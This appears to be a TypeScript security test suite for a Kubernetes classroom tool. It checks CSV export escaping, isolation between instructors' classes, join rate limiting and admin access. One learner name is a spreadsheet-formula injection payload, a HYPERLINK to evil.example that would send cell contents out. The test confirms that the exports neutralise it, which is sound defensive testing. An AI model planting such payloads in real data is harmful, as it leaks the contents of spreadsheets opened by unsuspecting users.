/**
 * Attacks on a class by the people around it (issue: security II, items
 * 5, 6 and 8), against a real `kubelab start --mode namespace` and the real
 * cluster: a learner whose display name is a spreadsheet formula, a second
 * instructor who tries every instructor route on the first one's class, and
 * a crowd joining a class that is already full.
 */
import assert from "node:assert/strict";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { after, before, describe, it } from "node:test";
import { eventually, runCommand } from "../support/cluster.ts";
import { startServer, upgrade, type ServerProcess } from "../support/server.ts";

const PASSWORD = "correct horse battery staple";
const EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A2&B2,"Open")';
/** The name as a CSV cell once neutralised: a leading quote, the quotes doubled. */
const EVIL_CELL = `"'=HYPERLINK(""http://evil.example/?""&A2&B2,""Open"")"`;

let server: ServerProcess;
let dir: string;
let env: NodeJS.ProcessEnv;
let base: string;
let classId: string;
let joinCode: string;
let learner: { cookie: string; id: string };
const owner = { cookie: "", csrf: "" };

const form = (fields: Record<string, string>) => ({
  method: "POST",
  redirect: "manual" as const,
  headers: { "content-type": "application/x-www-form-urlencoded", origin: base },
  body: new URLSearchParams(fields).toString(),
});

function cli(args: string[], input?: string) {
  return runCommand(process.execPath, ["--disable-warning=ExperimentalWarning", "src/cli/main.ts", ...args], {
    env,
    input,
  });
}

/** Sign in: the instructor's cookie and CSRF token. */
async function signIn(name: string) {
  const login = await fetch(`${base}/instructor/login`, form({ name, password: PASSWORD }));
  assert.equal(login.status, 303, `${name} signs in`);
  const cookie = login.headers.get("set-cookie")!.split(";")[0];
  const html = await (await fetch(`${base}/instructor`, { headers: { cookie } })).text();
  return { cookie, csrf: JSON.parse(/id="kubelab-instructor-data">(.*?)<\/script>/s.exec(html)![1]).csrf as string };
}

function call(who: { cookie: string; csrf: string }, method: string, path: string, body: unknown = {}) {
  return fetch(`${base}/api/instructor/classes${path}`, {
    method,
    headers: { cookie: who.cookie, "x-kubelab-csrf": who.csrf, "content-type": "application/json", origin: base },
    ...(method === "POST" ? { body: JSON.stringify(body) } : {}),
  });
}

/** Every instructor route on one class and one of its learners (the list and the terminal are tried apart). */
const routes = (): [string, string, unknown?][] => [
  ["GET", `/${classId}/grid`],
  ["GET", `/${classId}/events`],
  ["GET", `/${classId}/grid.csv`],
  ["GET", `/${classId}/attempts.csv`],
  ["GET", `/${classId}/exam.csv`],
  ["GET", `/${classId}/learners/${learner.id}/attempts`],
  ["POST", `/${classId}/learners/${learner.id}/reset`],
  ["POST", `/${classId}/learners/${learner.id}/extend`, { minutes: 30 }],
  ["POST", `/${classId}/exam`, { exam: "ckad-mock" }],
  ["POST", `/${classId}/learners/${learner.id}/exam/submit`],
  ["POST", `/${classId}/exam/end`],
  ["POST", `/${classId}/end`],
];

before(async () => {
  dir = mkdtempSync(join(tmpdir(), "kubelab-class-owners-"));
  env = { KUBELAB_STORE: join(dir, "progress.db") };
  for (const name of ["ana", "bo"]) {
    const added = await cli(["instructor", "add", name], PASSWORD);
    assert.equal(added.code, 0, added.stderr);
  }
  server = await startServer(["--mode", "namespace"], env);
  base = server.url;
  Object.assign(owner, await signIn("ana"));
  const created = await call(owner, "POST", "", {
    name: "owners",
    lessons: ["job"],
    capacity: 1,
    labLifetimeMinutes: 30,
  });
  assert.equal(created.status, 201, await created.clone().text());
  ({ id: classId, joinCode } = (await created.json()) as { id: string; joinCode: string });

  const joined = await fetch(`${base}/join?lang=en`, form({ code: joinCode, name: EVIL_NAME }));
  assert.equal(joined.status, 303, await joined.clone().text());
  const cookie = joined.headers.get("set-cookie")!.split(";")[0];
  await eventually(
    async () => {
      const r = await fetch(`${base}/api/lab`, { method: "POST", headers: { cookie, origin: base } });
      return ((await r.json()) as { state: string }).state === "ready";
    },
    "the learner's lab ready",
    180_000,
  );
  // One Check, so the attempt exports have a row naming the learner.
  const check = await fetch(`${base}/api/lab/grade`, {
    method: "POST",
    headers: { cookie, origin: base, "content-type": "application/json" },
    body: JSON.stringify({ exercise: "job/echo", locale: "en" }),
  });
  assert.equal(check.status, 200, await check.clone().text());
  const grid = (await (await call(owner, "GET", `/${classId}/grid`)).json()) as { rows: { learnerId: string }[] };
  learner = { cookie, id: grid.rows[0]!.learnerId };
});

after(async () => {
  if (classId) await call(owner, "POST", `/${classId}/end`).catch(() => {});
  await server?.stop();
  rmSync(dir, { recursive: true, force: true });
});

describe("class owners and exports", { timeout: 300_000 }, () => {
  it("a display name that is a spreadsheet formula is written as text in every CSV export", async () => {
    for (const file of ["grid.csv", "attempts.csv", "exam.csv"]) {
      const res = await call(owner, "GET", `/${classId}/${file}`);
      assert.equal(res.status, 200, file);
      const text = await res.text();
      assert.ok(text.includes(`,${EVIL_CELL},`), `${file} holds the name as text:\n${text}`);
      assert.doesNotMatch(text, /(^|,)"?[=+@]/m, `${file}: no cell starts a formula`);
    }
    const exported = await cli(["progress", "export", "--format", "csv"]);
    assert.equal(exported.code, 0, exported.stderr);
    assert.ok(exported.stdout.includes(`,${EVIL_CELL},`), `progress export:\n${exported.stdout}`);
    assert.doesNotMatch(exported.stdout, /(^|,)"?[=+@]/m, "progress export: no cell starts a formula");
  });

  it("a second instructor gets 404 for the first one's class on every route, the list and the terminal included", async () => {
    const bo = await signIn("bo");
    const listed = (await (await call(bo, "GET", "")).json()) as { classes: { id: string }[] };
    assert.ok(!listed.classes.some((c) => c.id === classId), "not in bo's list");
    for (const [method, path, body] of routes()) {
      const res = await call(bo, method, path, body);
      const text = await res.text();
      assert.equal(res.status, 404, `bo: ${method} ${path}: ${text.slice(0, 200)}`);
      assert.ok(!text.includes("owners") && !text.includes("HYPERLINK"), `bo: ${method} ${path} leaks nothing`);
    }
    const watch = await upgrade(
      server.port,
      { cookie: bo.cookie, origin: base },
      `/api/instructor/classes/${classId}/learners/${learner.id}/terminal`,
    );
    watch.socket?.close();
    assert.equal(watch.status, 404, "bo: the read-only terminal");
    // The class is untouched: still open, its learner's lab still there.
    const grid = (await (await call(owner, "GET", `/${classId}/grid`)).json()) as { rows: { lab?: unknown }[] };
    assert.ok(grid.rows[0]!.lab, "ana's class and its lab are as they were");
  });

  it("a crowd joining the full class is slowed down like wrong codes and leaves no learner rows", async () => {
    const learnerRows = () => {
      const db = new DatabaseSync(env.KUBELAB_STORE!, { readOnly: true });
      try {
        return Number((db.prepare("SELECT COUNT(*) AS n FROM learners").get() as { n: number }).n);
      } finally {
        db.close();
      }
    };
    const before = learnerRows();
    const statuses: number[] = [];
    for (let i = 0; i < 30; i++)
      statuses.push((await fetch(`${base}/join?lang=en`, form({ code: joinCode, name: `crowd ${i}` }))).status);
    assert.ok(statuses.includes(409), `the first hear the class is full: ${statuses}`);
    assert.ok(statuses.filter((s) => s === 429).length >= 15, `then 429: ${statuses}`);
    assert.equal(learnerRows(), before, "no learner row for anyone turned away");
  });

  it("an admin instructor may act on every class", async () => {
    const added = await cli(["instructor", "add", "--admin", "root"], PASSWORD);
    assert.equal(added.code, 0, added.stderr);
    assert.match((await cli(["instructor", "list"])).stdout, /^root\tadmin\t/m);
    const root = await signIn("root");
    const listed = (await (await call(root, "GET", "")).json()) as { classes: { id: string }[] };
    assert.ok(
      listed.classes.some((c) => c.id === classId),
      "in the admin's list",
    );
    assert.equal((await call(root, "GET", `/${classId}/grid.csv`)).status, 200);
    assert.equal((await call(root, "POST", `/${classId}/learners/${learner.id}/extend`, { minutes: 5 })).status, 200);
    const watch = await upgrade(
      server.port,
      { cookie: root.cookie, origin: base },
      `/api/instructor/classes/${classId}/learners/${learner.id}/terminal`,
    );
    assert.ok(watch.socket, `the admin's read-only view opens (${watch.status} ${watch.body})`);
    watch.socket.close();
  });
});
